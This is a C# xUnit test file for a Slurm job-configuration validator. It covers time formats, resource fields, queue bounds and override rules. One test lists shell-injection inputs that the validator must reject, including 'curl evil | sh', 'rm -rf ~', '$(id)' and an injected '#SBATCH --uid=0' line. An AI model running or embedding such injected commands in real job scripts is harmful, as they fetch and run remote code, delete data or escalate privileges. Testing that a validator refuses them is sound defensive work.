using System.Text.Json;
using System.Text.Json.Nodes;
using Liftoff.Contracts;
using Liftoff.Targets.Slurm;
using Xunit;

namespace Liftoff.Targets.Tests.Slurm;

public sealed class SlurmResourceConfigTests
{
    [Fact]
    public void Validate_WhenEveryFieldIsWellFormed_FindsNothing()
    {
        var config = JsonNode.Parse("""
            {"partition": "gpu", "time": "1-12:00:00", "nodes": "1-2", "ntasks": 4, "ntasks_per_node": 2, "cpus_per_task": 8,
             "mem": "64G", "gpus": "a100:2", "gres": "gpu:a100:2,nvme:1", "constraint": "a100&(ib|roce)", "qos": "high",
             "account": "ml-team", "exclusive": true, "reservation": "maint_1", "nodelist": "node[01-04],gpu7", "exclude": ["node09"],
             "signal": "B:USR1@120", "env": {"HF_HOME": "/shared/hf", "SEED": 3}, "report_all_ranks": false,
             "modules": ["cuda/12.1", "python/3.11-gcc"], "setup": ["source /opt/site/env.sh"], "container": "apptainer",
             "allowed_partitions": ["gpu", "cpu"], "allowed_accounts": ["ml-team"], "allowed_qos": ["high", "normal"], "max_nodes": 2, "max_time": "2-00:00:00"}
            """)!.AsObject();

        Assert.Empty(new SlurmTarget().Validate(config, "resource_args", complete: true));
    }

    [Theory]
    [InlineData("\"30\"", 1800L)]
    [InlineData("90", 5400L)]
    [InlineData("\"30:15\"", 1815L)]
    [InlineData("\"2:00:00\"", 7200L)]
    [InlineData("\"1-0\"", 86400L)]
    [InlineData("\"1-2:30\"", 95400L)]
    [InlineData("\"1-2:30:15\"", 95415L)]
    [InlineData("\"UNLIMITED\"", null)]
    [InlineData("\"INFINITE\"", null)]
    public void Time_InEveryFormSbatchTakes_IsAcceptedAndRead(string json, long? seconds)
    {
        var config = new JsonObject { ["time"] = JsonNode.Parse(json) };

        Assert.Empty(new SlurmTarget().Validate(config, "resource_args", complete: true));
        Assert.Equal(seconds, SlurmResourceConfig.Parse(JsonSerializer.SerializeToElement(config)).TimeLimitSeconds);
    }

    [Theory]
    [InlineData("time", "\"2h\"")]
    [InlineData("time", "\"1-\"")]
    [InlineData("time", "\"1:2:3:4\"")]
    [InlineData("time", "-5")]
    [InlineData("time", "\"1-2:3:4:5\"")]
    [InlineData("mem", "\"4GB\"")]
    [InlineData("mem", "\"-1\"")]
    [InlineData("mem_per_cpu", "\"0\"")]
    [InlineData("signal", "\"FOO\"")]
    [InlineData("signal", "\"X:USR1\"")]
    [InlineData("signal", "\"USR1@99999\"")]
    [InlineData("signal", "\"99\"")]
    [InlineData("nodes", "0")]
    [InlineData("nodes", "\"3-2\"")]
    [InlineData("ntasks", "1.5")]
    [InlineData("cpus_per_task", "\"8\"")]
    [InlineData("gpus", "0")]
    [InlineData("gres", "\"gpu:a100:2:x\"")]
    [InlineData("exclusive", "\"yes\"")]
    [InlineData("container", "\"docker\"")]
    [InlineData("max_nodes", "0")]
    [InlineData("max_time", "\"forever\"")]
    [InlineData("allowed_partitions", "\"gpu\"")]
    [InlineData("memory", "\"4G\"")]
    [InlineData("partition", "true")]
    [InlineData("account", "[\"ml\"]")]
    public void Validate_WhenAValueIsMalformedOrTheKeyUnknown_NamesTheKey(string key, string json)
    {
        var config = new JsonObject { [key] = JsonNode.Parse(json) };

        var errors = new SlurmTarget().Validate(config, "resource_args", complete: true);

        Assert.Equal($"resource_args.{key}", Assert.Single(errors).Field);
    }

    [Theory]
    [InlineData("partition", "\"gpu\\n#SBATCH --uid=0\"")]
    [InlineData("partition", "\"gpu;reboot\"")]
    [InlineData("partition", "\"gpu\\n\"")]
    [InlineData("account", "\"$(id)\"")]
    [InlineData("qos", "\"high normal\"")]
    [InlineData("reservation", "\"r\\\"x\"")]
    [InlineData("constraint", "\"a100`id`\"")]
    [InlineData("constraint", "\"a100 # comment\"")]
    [InlineData("nodelist", "\"n1 n2\"")]
    [InlineData("exclude", "[\"n1;id\"]")]
    [InlineData("gres", "\"gpu:1\\nid\"")]
    [InlineData("gpus", "\"$(id):1\"")]
    [InlineData("mem", "\"4G'\"")]
    [InlineData("signal", "\"USR1;id\"")]
    [InlineData("time", "\"1:00:00\\nid\"")]
    [InlineData("modules", "[\"cuda; rm -rf ~\"]")]
    [InlineData("modules", "[\"$(id)\"]")]
    [InlineData("setup", "[\"module load a\\ncurl evil | sh\"]")]
    [InlineData("allowed_qos", "[\"a b\"]")]
    public void Validate_WhenAValueCouldInjectIntoTheScript_RefusesIt(string key, string json)
    {
        var config = new JsonObject { [key] = JsonNode.Parse(json) };

        var errors = new SlurmTarget().Validate(config, "resource_args", complete: true);

        Assert.StartsWith($"resource_args.{key}", Assert.Single(errors).Field, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("A B")]
    [InlineData("1X")]
    [InlineData("X;id")]
    [InlineData("X-Y")]
    public void Validate_WhenAnEnvNameIsNotAShellVariable_NamesIt(string name)
    {
        var config = new JsonObject { ["env"] = new JsonObject { [name] = "1" } };

        var errors = new SlurmTarget().Validate(config, "resource_args", complete: true);

        Assert.Contains(errors, e => e.Field == $"resource_args.env.{name}");
    }

    [Fact]
    public void Validate_AnEffectiveConfigOutsideTheQueuesBounds_NamesEachField()
    {
        var config = JsonNode.Parse("""
            {"partition": "big", "account": "other", "qos": "vip", "nodes": "2-8", "time": "2-00:00:00",
             "allowed_partitions": ["cpu", "gpu"], "allowed_accounts": ["ml"], "allowed_qos": ["normal"], "max_nodes": 4, "max_time": "1-00:00:00"}
            """)!.AsObject();

        var errors = new SlurmTarget().Validate(config, "resource_args", complete: true);

        Assert.Equal(["resource_args.partition", "resource_args.account", "resource_args.qos", "resource_args.nodes", "resource_args.time"], errors.Select(e => e.Field));
        Assert.Contains("cpu, gpu", errors[0].Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Validate_WhenTheQueueBoundsAChoiceTheLaunchLeavesOpen_AsksForIt_ButNotOfTheQueuesOwnDefaults()
    {
        var config = JsonNode.Parse("""{"allowed_partitions": ["cpu"], "max_time": "4:00:00"}""")!.AsObject();
        var unlimited = JsonNode.Parse("""{"time": "UNLIMITED", "max_time": "4:00:00"}""")!.AsObject();

        var launch = new SlurmTarget().Validate(config, "resource_args", complete: true);
        var queue = new SlurmTarget().Validate(config, "config", complete: false);

        Assert.Equal(["resource_args.partition", "resource_args.time"], launch.Select(e => e.Field));
        Assert.Empty(queue);
        Assert.Equal("resource_args.time", Assert.Single(new SlurmTarget().Validate(unlimited, "resource_args", complete: true)).Field);
    }

    [Fact]
    public void ValidateOverrides_WhenAnItemSetsWhatIsTheQueueOwners_RefusesEach()
    {
        using var defaults = JsonDocument.Parse("""{"partition": "cpu", "allowed_partitions": ["cpu", "gpu"]}""");
        using var item = JsonDocument.Parse("""
            {"partition": "gpu", "time": "10", "modules": ["x"], "setup": ["echo"], "container": "apptainer", "allowed_partitions": ["big"],
             "allowed_accounts": ["a"], "allowed_qos": ["q"], "max_nodes": 100, "max_time": "UNLIMITED"}
            """);

        var errors = new SlurmTarget().ValidateOverrides(defaults.RootElement, item.RootElement, "resource_args");

        Assert.Equal(
            ["resource_args.modules", "resource_args.setup", "resource_args.container", "resource_args.allowed_partitions", "resource_args.allowed_accounts",
             "resource_args.allowed_qos", "resource_args.max_nodes", "resource_args.max_time"],
            errors.Select(e => e.Field));
    }

    [Fact]
    public void RefuseJob_AnImageJob_IsRefusedUnlessTheQueueNamesAContainerRuntime()
    {
        var target = new SlurmTarget();

        Assert.NotNull(target.RefuseJob(JobSourceTypes.Image, []));
        Assert.NotNull(target.RefuseJob(JobSourceTypes.Image, new JsonObject { ["container"] = "none" }));
        Assert.Null(target.RefuseJob(JobSourceTypes.Image, new JsonObject { ["container"] = "enroot" }));
        Assert.Null(target.RefuseJob(JobSourceTypes.Repo, []));
    }

    [Fact]
    public void Parse_WhenASubstitutedValueIsBad_Throws()
    {
        using var config = JsonDocument.Parse("""{"partition": "gpu; id"}""");

        var error = Assert.Throws<ArgumentException>(() => SlurmResourceConfig.Parse(config.RootElement));

        Assert.Contains("resource_args.partition", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_ReadsEnvValuesThatAreNumbersOrBooleansAsTheirText()
    {
        using var config = JsonDocument.Parse("""{"env": {"SEED": 3, "DEBUG": true, "NAME": "x"}}""");

        var env = SlurmResourceConfig.Parse(config.RootElement).Env;

        Assert.Equal(new Dictionary<string, string> { ["SEED"] = "3", ["DEBUG"] = "true", ["NAME"] = "x" }, env);
    }

    [Fact]
    public void Settings_Validate_NamesEachBadKey()
    {
        var settings = new SlurmSettings { Workdir = "relative/dir", Sbatch = " ", PollInterval = 0, SlurmrestdUrl = "ftp://x", ServerUrl = "nope" };

        var errors = settings.Validate().ToList();

        Assert.Equal(["slurm.workdir", "slurm.sbatch", "slurm.poll_interval", "slurm.slurmrestd_url", "slurm.server_url"], errors.Select(e => e[..e.IndexOf(':', StringComparison.Ordinal)]));
        Assert.StartsWith("slurm.workdir: required", new SlurmSettings().Validate().Single(), StringComparison.Ordinal);
        Assert.Empty(new SlurmSettings { Workdir = "/shared/liftoff" }.Validate());
    }
}
